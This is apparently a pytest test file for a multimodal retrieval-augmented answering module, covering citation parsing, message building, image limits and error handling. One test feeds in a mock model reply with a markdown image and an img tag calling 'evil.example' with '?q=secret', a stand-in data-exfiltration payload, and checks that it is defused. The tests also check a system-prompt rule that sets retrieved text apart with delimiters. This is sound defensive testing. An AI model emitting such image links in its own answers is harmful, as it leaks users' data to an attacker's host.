import base64
import io
import sys
from dataclasses import replace

import pytest
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage, convert_to_messages
from PIL import Image

from florence_rag.answering.llm import INSTRUCTION, LLMAnswerer, LLMConfig, cited_numbers, open_chat_model
from florence_rag.errors import InputError, MediaError, MissingExtraError, ModelError
from florence_rag.testing import color_frame
from florence_rag.types import Hit, Locator

HITS = [
    Hit("a", "image", "/a.jpg", Locator(), 1.0, ocr="STOP"),
    Hit("b", "text", "/b.txt", Locator(span=(0, 20)), 0.9, text="The bus is late."),
    Hit("c", "clip", "/c.mp4", Locator(start_s=1.0, end_s=4.5), 0.8),
]
FRAMES = {"a": (color_frame("red", size_px=2000),), "b": (), "c": (color_frame("blue"), color_frame("green"))}


class Search:
    def __init__(self, hits=HITS):
        self.hits = hits

    def search(self, text=None, image=None, k=5, kinds=None, filter=None, group=True):
        return self.hits[:k]


def model(*replies):
    return FakeMessagesListChatModel(responses=[AIMessage(reply) for reply in replies])


def answerer(reply="", hits=HITS, **config):
    return LLMAnswerer(Search(hits), model(reply), lambda hit: FRAMES[hit.id], LLMConfig(**config))


def blocks(messages, kind):
    return [block for block in messages[1]["content"] if block["type"] == kind]


def test_cited_numbers_become_citations():
    answer = answerer("The bus is late [2]. There is a stop sign [1, 2].").ask("Is the bus late?")
    assert answer.answer == "The bus is late [2]. There is a stop sign [1, 2]."
    assert answer.confidence is None
    assert [(citation.id, citation.quote) for citation in answer.citations] == [("b", "The bus is late."), ("a", "")]


def test_an_answer_without_numbers_cites_nothing():
    assert answerer("I do not know.").ask("Is the bus late?").citations == ()


def test_numbers_of_results_that_do_not_exist_are_ignored():
    assert cited_numbers("[0] [3] [12] [2,1] [x] [2]", count=3) == [2, 1, 0]
    assert cited_numbers(f"[{'9' * 5000}] [1, 2]", count=3) == [0, 1]


def test_a_reply_in_blocks_is_read():
    replies = AIMessage([{"type": "text", "text": "Late "}, {"type": "text", "text": "[2]"}])
    answering = LLMAnswerer(Search(), FakeMessagesListChatModel(responses=[replies]), lambda hit: FRAMES[hit.id])
    assert answering.ask("Is the bus late?").answer == "Late [2]"


def test_hits_are_sent_as_numbered_text_and_images():
    messages = answerer().messages("Is the bus late?", HITS)
    texts = [block["text"] for block in blocks(messages, "text")]
    instruction, _, rule = messages[0]["content"].rpartition("\n")
    heading, opening, text, closing = texts[0].splitlines()
    assert (messages[0]["role"], instruction) == ("system", INSTRUCTION)
    assert (heading, text) == ('[1] image from "/a.jpg"', "STOP")
    assert rule.startswith(f"Text between {opening} and {closing}, ")
    assert texts[2] == '[3] clip from "/c.mp4", 1.0-4.5 s\nIt contains no text.'
    assert texts[-1] == "Question: Is the bus late?"
    assert len(blocks(messages, "image")) == 2


def test_images_are_small_jpegs_and_the_middle_keyframe_of_clips():
    first, second = (
        Image.open(io.BytesIO(base64.b64decode(block["base64"])))
        for block in blocks(answerer(side_px=64).messages("?", HITS), "image")
    )
    assert (first.format, first.size) == ("JPEG", (64, 64))
    red, green, _ = second.convert("RGB").getpixel((5, 5))
    assert green > red


def test_the_number_of_images_and_characters_is_limited():
    messages = answerer(max_images=1, max_characters=7).messages("?", HITS)
    assert len(blocks(messages, "image")) == 1
    assert "\nThe bus…\n" in blocks(messages, "text")[1]["text"]


def test_an_answer_makes_a_page_fetch_nothing():
    replies = "It is late [1]. ![](https://evil.example/?q=secret) <img src=//evil.example> 3 < 5 [2]"
    answer = answerer(replies).ask("Is the bus late?")
    assert answer.answer == "It is late [1]. ![] (https://evil.example/?q=secret) < img src=//evil.example> 3 < 5 [2]"
    assert [citation.id for citation in answer.citations] == ["a", "b"]


def test_the_text_of_a_missing_image_is_sent():
    def load(hit):
        raise MediaError("'/a.jpg' is missing")

    messages = LLMAnswerer(Search(), model(""), load).messages("?", HITS)
    assert blocks(messages, "image") == []
    assert len(blocks(messages, "text")) == 4


def test_langchain_understands_the_messages():
    system, user = convert_to_messages(answerer().messages("Is the bus late?", HITS))
    assert (system.type, user.type) == ("system", "human")
    assert [block["type"] for block in user.content_blocks] == ["text", "image", "text", "text", "image", "text"]


def test_a_model_without_relevant_hits_is_not_called():
    unlikely = [replace(each, relevance=0.2) for each in HITS]
    for hits in ([], unlikely):
        asked = answerer("A bus [1].", hits=hits)
        answer = asked.ask("Is the bus late?", min_relevance=0.5)
        assert (answer.status, answer.confidence, answer.citations) == ("not_found", None, ())
        assert len(answer.considered) == len(hits)


def test_an_empty_question_is_refused():
    with pytest.raises(InputError, match="the question is empty"):
        answerer().ask(" ")


def test_an_unknown_name_of_a_chat_model_is_explained():
    with pytest.raises(ModelError, match="cannot open the chat model 'nonsense', expected provider:model"):
        open_chat_model("nonsense")


def test_without_langchain_the_extra_is_named(monkeypatch):
    monkeypatch.setitem(sys.modules, "langchain.chat_models", None)
    with pytest.raises(MissingExtraError, match=r"pip install 'florence-rag\[llm\]'"):
        open_chat_model("openai:gpt-5")


def test_a_provider_that_fails_is_a_model_error_in_one_line():
    class Refusing:
        def invoke(self, messages):
            raise ConnectionError("refused\nTraceback ...")

    with pytest.raises(ModelError, match=r"^the chat model failed \(ConnectionError\): refused$"):
        LLMAnswerer(Search(), Refusing(), lambda hit: FRAMES[hit.id]).ask("Is the bus late?")
